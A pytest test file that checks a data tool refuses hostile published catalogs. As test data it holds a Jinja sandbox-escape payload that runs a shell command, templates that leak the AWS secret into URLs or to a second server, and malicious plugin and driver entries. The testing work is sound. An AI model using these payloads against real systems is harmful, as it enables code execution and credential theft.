"""Hostile published catalogs and pulls (issue 14): a catalog read from a URL is data, not a program.

Two local S3 servers whose request logs we read: ``main`` holds the genuine published version and
the attacker's catalogs; ``other`` holds the attacker's own version (its own manifest). The reader's
AWS secret is planted in its environment; it must appear in no request line of either server's log
and in no output; planted code must not create its marker file."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
import s3fs
import xarray as xr
import yaml
from _s3_helpers import LoggedS3Server, tiny_cloudmask_store

from scibench_data.storage.distribution.local_s3 import storage_options
from scibench_data.storage.distribution.publish import PublishOptions, publish
from scibench_data.storage.distribution.pull import Subset, pull, verify_local

REPO = Path(__file__).resolve().parents[2]
BUCKET = "hostile"
SECRET = "PLANTED-SECRET-hostile-5c1e77"
KEY_ID = "planted-key-id-hostile"


@pytest.fixture(scope="module")
def servers(tmp_path_factory) -> Iterator[dict[str, LoggedS3Server]]:
    folder = tmp_path_factory.mktemp("moto_logs")
    out = {"main": LoggedS3Server(folder)}
    try:
        out["other"] = LoggedS3Server(folder)
        yield out
    finally:
        for s in out.values():
            s.stop()


def _options(server: LoggedS3Server) -> dict:
    return storage_options(server.endpoint)


def _store(base: Path, seed: int) -> Path:
    return tiny_cloudmask_store(base, grid=(32, 48), tile=16, seed=seed)


@pytest.fixture(scope="module")
def published(servers, tmp_path_factory) -> dict:
    """The genuine version on ``main`` and the attacker's version on ``other``, same bucket and prefix."""
    out = {}
    for name, seed in (("main", 51), ("other", 52)):
        so = _options(servers[name])
        fs = s3fs.S3FileSystem(**so)
        fs.mkdir(BUCKET)
        store = _store(tmp_path_factory.mktemp(f"store_{name}"), seed)
        result = publish("cloudmask_ds1", str(store), f"s3://{BUCKET}/sci", storage_options=so,
                         options=PublishOptions(progress=False))
        out[name] = {"store": store, "catalog": yaml.safe_load(fs.cat_file(f"{BUCKET}/sci/catalog.yaml")),
                     "result": result, "fs": fs}
    return out


def _plant_catalog(published: dict, name: str, change) -> str:
    """A copy of the genuine catalog on ``main`` at ``sci/NAME.yaml``, with the entry changed."""
    cat = json.loads(json.dumps(published["main"]["catalog"]))
    change(cat["sources"]["cloudmask_ds1"], cat)
    published["main"]["fs"].pipe_file(f"{BUCKET}/sci/{name}.yaml", yaml.safe_dump(cat, sort_keys=False).encode())
    return f"s3://{BUCKET}/sci/{name}.yaml"


def _env(server: LoggedS3Server, **extra: str) -> dict:
    env = {k: v for k, v in os.environ.items() if not k.startswith("AWS_") and k != "SCIBENCH_S3_ANON"}
    env.update({"AWS_ENDPOINT_URL": server.endpoint, "AWS_EC2_METADATA_DISABLED": "true", "TQDM_DISABLE": "1",
                "PYTHONPATH": str(REPO), "AWS_SHARED_CREDENTIALS_FILE": "/nonexistent",
                "AWS_CONFIG_FILE": "/nonexistent", "AWS_ACCESS_KEY_ID": KEY_ID, "AWS_SECRET_ACCESS_KEY": SECRET,
                "AWS_MAX_ATTEMPTS": "1", **extra})
    return env


def _cli(args: list[str], env: dict, cwd: Path = REPO) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "scibench_data", *args], cwd=cwd, env=env, capture_output=True,
                          timeout=180)


def _refused_in_one_line(done: subprocess.CompletedProcess, *words: str) -> str:
    err = done.stderr.decode()
    assert done.returncode == 2, (done.returncode, done.stdout.decode(), err)
    assert b"Traceback" not in done.stderr and err.startswith("scibench-data: error: ") and err.count("\n") == 1, err
    for w in words:
        assert w in err, err
    return err


def _no_secret_anywhere(servers: dict, *outputs: bytes) -> None:
    for s in servers.values():
        lines = s.log_lines()
        assert lines, s.log
        assert not [line for line in lines if SECRET in line], s.log
    for out in outputs:
        assert SECRET.encode() not in out


# --------------------------------------------------------------------------- attack 1: env() secrets


def test_env_secret_in_catalog_urlpath_reaches_no_server_and_no_output(servers, published, tmp_path):
    evil = _plant_catalog(published, "evil-urlpath", lambda e, c: e["args"].update(
        urlpath="{{ CATALOG_DIR }}/cloudmask_ds1/{{ env('AWS_SECRET_ACCESS_KEY') }}"))
    outputs = []
    for args in (["verify", "cloudmask_ds1", "--catalog", evil],
                 ["pull", "cloudmask_ds1", "--catalog", evil, "--to", str(tmp_path / "copy"), "--no-progress"]):
        done = _cli(args, _env(servers["main"]))
        _refused_in_one_line(done, "evil-urlpath.yaml", "template")
        outputs += [done.stdout, done.stderr]
    _no_secret_anywhere(servers, *outputs)
    assert not (tmp_path / "copy").exists()


def test_env_secret_in_catalog_endpoint_url_reaches_no_server_and_no_output(servers, published):
    endpoint = servers["other"].endpoint + "/{{ env('AWS_SECRET_ACCESS_KEY') }}"
    evil = _plant_catalog(published, "evil-endpoint", lambda e, c: e["args"].setdefault(
        "storage_options", {}).update(client_kwargs={"endpoint_url": endpoint}))
    done = _cli(["verify", "cloudmask_ds1", "--catalog", evil], _env(servers["main"]))
    _refused_in_one_line(done, "evil-endpoint.yaml")
    _no_secret_anywhere(servers, done.stdout, done.stderr)


# --------------------------------------------------------------------------- attack 2: endpoint redirection


def test_catalog_endpoint_redirection_to_another_server_is_refused(servers, published, tmp_path):
    from scibench_data.catalog import open_catalog

    other = published["other"]["catalog"]["sources"]["cloudmask_ds1"]

    def redirect(entry, cat):
        entry["metadata"] = other["metadata"]  # the other server's manifest digest
        entry["args"].setdefault("storage_options", {}).update(
            client_kwargs={"endpoint_url": servers["other"].endpoint})

    evil = _plant_catalog(published, "evil-redirect", redirect)
    before = len(servers["other"].log_lines())
    env = _env(servers["main"])
    for args in (["verify", "cloudmask_ds1", "--catalog", evil],
                 ["pull", "cloudmask_ds1", "--catalog", evil, "--to", str(tmp_path / "copy"), "--no-progress"]):
        _refused_in_one_line(_cli(args, env), "evil-redirect.yaml", "client_kwargs", "anon")
    with pytest.raises(ValueError, match="client_kwargs"):
        open_catalog(evil, storage_options=_options(servers["main"])).cloudmask_ds1.to_dask()
    assert servers["other"].log_lines()[before:] == []  # nothing was read from the other server
    assert not (tmp_path / "copy").exists()


def test_the_genuine_published_catalog_still_verifies_pulls_and_opens(servers, published, tmp_path):
    from scibench_data.catalog import open_catalog
    from scibench_data.intake_source import open_path

    url = published["main"]["result"].catalog_url
    env = _env(servers["main"])
    done = _cli(["verify", "cloudmask_ds1", "--catalog", url], env)
    assert done.returncode == 0 and b"all match the manifest" in done.stdout, done.stderr.decode()
    done = _cli(["pull", "cloudmask_ds1", "--catalog", url, "--to", str(tmp_path), "--no-progress"], env)
    assert done.returncode == 0, done.stderr.decode()
    local = xr.open_zarr(published["main"]["store"]).load()
    xr.testing.assert_identical(xr.open_zarr(tmp_path / "cloudmask_ds1.zarr").load(), local)
    ds = open_catalog(url, storage_options=_options(servers["main"])).cloudmask_ds1.to_dask()
    xr.testing.assert_identical(ds.load(), open_path(local))  # our driver decodes text, indexes time
    _no_secret_anywhere(servers, done.stdout, done.stderr)


# --------------------------------------------------------------------------- templating that runs code, :: chains


@pytest.mark.parametrize("payload", ["jinja", "shell", "plugin", "driver"])
def test_code_in_a_published_catalog_does_not_run(servers, published, tmp_path, payload):
    marker = tmp_path / "PWNED"
    (tmp_path / "pwn_module.py").write_text(f"open({str(marker)!r}, 'w').close()\n")

    def change(entry, cat):
        if payload == "jinja":
            entry["args"]["urlpath"] = ("{{ CATALOG_DIR }}/cloudmask_ds1/v1{{ lipsum.__globals__['os'].popen("
                                        f"'touch {marker}').read() }}}}")
        elif payload == "shell":
            cat["metadata"]["parameters"] = {"p": {"description": "x", "type": "str",
                                                   "default": f"shell(touch {marker})"}}
            entry["args"]["urlpath"] = "{{ CATALOG_DIR }}/cloudmask_ds1/v1{{ p }}"
        elif payload == "plugin":
            cat["plugins"] = {"source": [{"module": "pwn_module"}]}
        else:
            entry["driver"] = "pwn_module.Nothing"

    evil = _plant_catalog(published, f"evil-code-{payload}", change)
    done = _cli(["verify", "cloudmask_ds1", "--catalog", evil], _env(servers["main"]), cwd=tmp_path)
    _refused_in_one_line(done, f"evil-code-{payload}.yaml")
    assert not marker.exists()


@pytest.mark.parametrize("urlpath", ["{{ CATALOG_DIR }}/cloudmask_ds1/v1::s3://elsewhere/x",
                                     "simplecache::{{ CATALOG_DIR }}/cloudmask_ds1/v1",
                                     "zip://x::{{ CATALOG_DIR }}/cloudmask_ds1/v1"])
def test_chained_url_in_a_catalog_is_refused_in_one_line_not_a_TypeError(servers, published, urlpath):
    evil = _plant_catalog(published, "evil-chain", lambda e, c: e["args"].update(urlpath=urlpath))
    _refused_in_one_line(_cli(["verify", "cloudmask_ds1", "--catalog", evil], _env(servers["main"])), "'::'")


# --------------------------------------------------------------------------- attack 5: pull over other stores


def _snapshot(folder: Path) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


def test_pull_over_a_users_own_store_is_refused_and_leaves_it_intact(servers, published, tmp_path):
    own = tmp_path / "cloudmask_ds1.zarr"
    mine = xr.Dataset({"image": (("y", "x"), [[1.0, 2.0], [3.0, 4.0]])})
    mine.to_zarr(own, zarr_format=3, consolidated=True)
    before = _snapshot(tmp_path)
    with pytest.raises(ValueError, match="not a copy that pull made"):
        pull(published["main"]["result"].catalog_url, "cloudmask_ds1", tmp_path,
             storage_options=_options(servers["main"]), progress=False)
    assert _snapshot(tmp_path) == before
    xr.testing.assert_identical(xr.open_zarr(own).load(), mine)


def test_subset_pull_of_v2_over_a_full_v1_copy_is_refused_and_verify_store_names_mixed_objects(
        servers, published, tmp_path):
    so = _options(servers["main"])
    prefix = f"s3://{BUCKET}/versions"
    v1 = publish("cloudmask_ds1", str(published["main"]["store"]), prefix, storage_options=so,
                 options=PublishOptions(progress=False))
    pull(v1.catalog_url, "cloudmask_ds1", tmp_path / "to", storage_options=so, progress=False)
    v2 = publish("cloudmask_ds1", str(published["other"]["store"]), prefix, storage_options=so,
                 options=PublishOptions(progress=False))
    assert v2.version == v1.version + 1
    copy = tmp_path / "to" / "cloudmask_ds1.zarr"
    before = _snapshot(copy)
    for subset in (Subset(records=(0,)), Subset()):
        with pytest.raises(ValueError, match=f"holds v{v1.version}.*v{v2.version}"):
            pull(v2.catalog_url, "cloudmask_ds1", tmp_path / "to", subset, storage_options=so, progress=False)
    assert _snapshot(copy) == before
    assert verify_local(copy).ok

    # a mixed copy made by hand (v2 subset pulled, then scene 1's chunks of v1 copied in) is named by verify
    pull(v2.catalog_url, "cloudmask_ds1", tmp_path / "v2", Subset(records=(0,)), storage_options=so, progress=False)
    mixed = tmp_path / "v2" / "cloudmask_ds1.zarr"
    assert verify_local(mixed).ok
    planted = [k for k in before if k.startswith("image/c/1/")]
    assert planted
    for key in planted:
        (mixed / key).parent.mkdir(parents=True, exist_ok=True)
        (mixed / key).write_bytes(before[key])
    report = verify_local(mixed)
    assert not report.ok
    assert sorted(k for k, _ in report.corrupted) == sorted(planted), report.lines()
    assert all("another version" in why for _, why in report.corrupted)
